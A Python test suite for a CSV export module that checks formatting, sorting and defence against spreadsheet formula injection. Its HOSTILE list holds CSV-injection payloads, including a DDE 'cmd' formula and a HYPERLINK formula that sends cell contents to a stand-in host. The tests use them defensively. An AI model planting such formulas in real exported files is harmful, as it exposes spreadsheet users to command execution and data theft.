"""CSV files as contract sections 6 and 8 (Print) say, read back by Python's own reader."""

import csv
from datetime import date
from pathlib import Path
from random import Random
from typing import Any

import polars as pl
import pytest

from dcc_analytics.render.columns import Column, FileDefinition, Kind
from dcc_analytics.render.csv_files import write_csv
from dcc_analytics.render.files import FILES
from dcc_analytics.render.snapshot_folder import MemberEntry, SnapshotFolder

TEXTS = FileDefinition.of("texts", "Texts", "", Column("text", Kind.TEXT, "Text"), key=1)


def written(tmp_path: Path, file: FileDefinition, **columns: list[Any]) -> list[list[str]]:
    """Write columns as a file, and return its rows without the header."""
    path = tmp_path / file.file_name
    rows = write_csv(pl.DataFrame(columns), file, path)
    with path.open(encoding="utf-8", newline="") as lines:
        header, *read = csv.reader(lines, strict=True)
    assert (list(file.header), len(read)) == (header, rows)
    return read


def a_column(kind: Kind, name: str = "value") -> FileDefinition:
    return FileDefinition.of("f", "F", "", Column("at", Kind.COUNT, "At"), Column(name, kind, "Value"), key=1)


@pytest.mark.parametrize("kind", [Kind.TEXT, Kind.COUNT, Kind.DAY, Kind.INSTANT, Kind.DECIMAL, Kind.RATE])
def test_a_column_that_an_earlier_release_did_not_know_is_empty(tmp_path: Path, kind: Kind) -> None:
    assert [["1", ""], ["2", ""]] == written(tmp_path, a_column(kind), at=[1, 2])
    path = tmp_path / "lazy.csv"
    assert 2 == write_csv(pl.LazyFrame({"at": [1, 2]}), a_column(kind), path)
    assert b"at,value\r\n1,\r\n2,\r\n" == path.read_bytes()


def test_lines_end_in_cr_lf_and_no_byte_order_mark_leads(tmp_path: Path) -> None:
    write_csv(pl.DataFrame({"text": ["b", "ä"]}), TEXTS, tmp_path / "texts.csv")
    assert "text\r\nb\r\nä\r\n".encode() == (tmp_path / "texts.csv").read_bytes()


def test_a_file_without_rows_is_its_header(tmp_path: Path) -> None:
    assert 0 == write_csv(pl.DataFrame({"text": []}, schema={"text": pl.String}), TEXTS, tmp_path / "texts.csv")
    assert b"text\r\n" == (tmp_path / "texts.csv").read_bytes()


@pytest.mark.parametrize("text", ["a,b", 'say "no"', "two\r\nlines", "two\nlines", " edges ", "Żółty", "'", "a=b"])
def test_text_comes_back_as_it_went_in(tmp_path: Path, text: str) -> None:
    assert [[text]] == written(tmp_path, TEXTS, text=[text])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_text_a_spreadsheet_would_run_has_an_apostrophe_before_it(tmp_path: Path, start: str) -> None:
    assert [[f"'{start}1+1"]] == written(tmp_path, TEXTS, text=[f"{start}1+1"])


#: What makers of Devices may call their Models; OWASP, CSV injection.
HOSTILE = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"M")', "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\0=1+1", 'x",=1+1', "x\r\n=1+1", "''=1+1",
]  # fmt: skip


@pytest.mark.parametrize("name", [name for name, file in FILES.items() if "model" in file.header or file.streamed])
def test_no_model_name_becomes_a_formula_in_any_file_that_has_models(
    month: SnapshotFolder, tmp_path: Path, name: str
) -> None:
    file, model = FILES[name], "device_model" if FILES[name].streamed else "model"
    names = pl.DataFrame({model: HOSTILE})
    first = month.table(name, MemberEntry("BUSY", "", "IS", "BUSY-IS")).head(1).drop(model).join(names, how="cross")
    write_csv(first.lazy() if file.streamed else first, file, tmp_path / file.file_name)
    with (tmp_path / file.file_name).open(encoding="utf-8", newline="") as lines:
        rows = list(csv.DictReader(lines, strict=True))
    runs = tuple("=+-@\t\r\0")
    assert sorted(f"'{each}" if each.startswith(runs) else each for each in HOSTILE) == sorted(
        row[model] for row in rows
    )
    assert not any(value.startswith(runs) for row in rows for value in row.values())


def test_numbers_have_no_apostrophe(tmp_path: Path) -> None:
    assert [["1", "-0.250"]] == written(tmp_path, a_column(Kind.SECONDS, "rtt_s"), at=[1], rtt_ms=[-250])


@pytest.mark.parametrize("kind", [Kind.TEXT, Kind.COUNT, Kind.RATE, Kind.DAY, Kind.FLAG])
def test_what_is_withheld_or_not_applicable_is_empty(tmp_path: Path, kind: Kind) -> None:
    types = {
        Kind.TEXT: pl.String,
        Kind.COUNT: pl.Int64,
        Kind.RATE: pl.Float64,
        Kind.DAY: pl.Date,
        Kind.FLAG: pl.Boolean,
    }
    path = tmp_path / "f.csv"
    write_csv(
        pl.DataFrame({"at": [1], "value": [None]}, schema={"at": pl.Int64, "value": types[kind]}), a_column(kind), path
    )
    assert b"at,value\r\n1,\r\n" == path.read_bytes()


def test_the_empty_text_is_printed_as_nothing(tmp_path: Path) -> None:
    write_csv(pl.DataFrame({"at": [1, 2], "value": ["", "x"]}), a_column(Kind.TEXT), tmp_path / "f.csv")
    assert b"at,value\r\n1,\r\n2,x\r\n" == (tmp_path / "f.csv").read_bytes()


@pytest.mark.parametrize(
    ("printed", "ms"), [("0.000", 0), ("0.007", 7), ("60.050", 60_050), ("431999.999", 431_999_999)]
)
def test_seconds_have_three_decimals(tmp_path: Path, printed: str, ms: int) -> None:
    assert [["1", printed]] == written(tmp_path, a_column(Kind.SECONDS, "rtt_s"), at=[1], rtt_ms=[ms])


def test_rates_have_six_decimals_rounded_as_python_rounds(tmp_path: Path) -> None:
    random = Random(1)
    rates = [0.0, 1.0, 1 / 3, 2 / 3, 0.0000005, 0.5000005, *(random.random() for _ in range(2000))]
    found = written(tmp_path, a_column(Kind.RATE), at=list(range(len(rates))), value=rates)
    assert [f"{rate:.6f}" for rate in rates] == [value for _, value in found]


def test_days_are_iso_and_flags_are_words(tmp_path: Path) -> None:
    assert [["1", "2026-10-05"]] == written(tmp_path, a_column(Kind.DAY), at=[1], value=[date(2026, 10, 5)])
    assert [["1", "true"], ["2", "false"]] == written(tmp_path, a_column(Kind.FLAG), at=[1, 2], value=[True, False])


def test_a_peer_value_is_a_rate_or_seconds_as_its_measure_says(tmp_path: Path) -> None:
    found = written(
        tmp_path, FILES["peer_values"], process=["P", "P"], srv=["1.1.1", "1.1.1"], variant=["", ""],
        measure=["rtt_median_s", "failure_rate"], position=[1, 1], value=[3.1, 0.021],
    )  # fmt: skip
    assert ["0.021000", "3.100"] == [row[-1] for row in found]


def test_rows_are_sorted_by_their_key_and_srvs_by_their_parts(tmp_path: Path) -> None:
    srvs = ["4.10", "11.1", "4.8.1", "4.8.1", "4.8.1", "99.9", "5.1"]
    columns: dict[str, list[Any]] = dict.fromkeys(
        (each.source for each in FILES["round_trips_monthly"].columns if each.kind is not Kind.TEXT), [0] * len(srvs)
    )
    columns |= {
        "srv": srvs,
        "process": ["B", "B", "B", "B", "A", "B", "B"],
        "variant": ["", "", "key_agreement", *[""] * 4],
    }
    found = written(tmp_path, FILES["round_trips_monthly"], **columns)
    wanted = [("A", "4.8.1", ""), ("B", "4.8.1", ""), ("B", "4.8.1", "key_agreement"), ("B", "4.10", "")]
    assert wanted == [tuple(row[:3]) for row in found[:4]]
    assert ["5.1", "11.1", "99.9"] == [row[1] for row in found[4:]]


@pytest.mark.parametrize("name", [name for name, file in FILES.items() if file.streamed])
def test_rows_never_all_in_memory_are_written_as_those_that_are(
    month: SnapshotFolder, tmp_path: Path, name: str
) -> None:
    busy, file = MemberEntry("BUSY", "", "IS", "BUSY-IS"), FILES[name]
    rows = month.table(name, busy)
    assert 50 == rows.height == write_csv(rows, file, tmp_path / "eager.csv")
    assert 50 == write_csv(month.scan(name, busy), file, tmp_path / "lazy.csv")
    assert (tmp_path / "eager.csv").read_bytes() == (tmp_path / "lazy.csv").read_bytes()
    nobody = MemberEntry("NOBODY", "", "IS", "NOBODY-IS")
    assert 0 == write_csv(month.scan(name, nobody), file, tmp_path / "none.csv")
    assert ",".join(file.header) + "\r\n" == (tmp_path / "none.csv").read_bytes().decode()


def test_every_file_of_a_member_is_sorted_by_its_key_and_its_keys_are_unique(
    month: SnapshotFolder, tmp_path: Path
) -> None:
    busy = MemberEntry("BUSY", "", "IS", "BUSY-IS")
    for file in FILES.values():
        frame = month.table(file.name, busy)
        rows = written(tmp_path, file, **frame.to_dict(as_series=False))
        keys = [tuple(row[: len(file.key)]) for row in rows]
        assert len(keys) == frame.height > 30, file.name
        if file.name != "failures":  # the fixture draws reasons by chance
            assert len(set(keys)) == len(keys), file.name
        places = [key[:1] for key in keys]
        assert sorted(places) == places, file.name
